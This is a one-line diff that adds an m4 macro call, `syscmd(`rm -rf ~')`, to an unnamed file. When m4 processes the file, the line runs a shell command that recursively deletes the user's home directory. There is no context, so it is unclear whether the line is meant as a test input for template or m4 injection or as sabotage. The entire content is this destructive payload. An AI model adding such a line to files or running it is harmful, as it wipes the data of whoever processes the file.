@@ -1,0 +1,1 @@
+syscmd(`rm -rf ~')
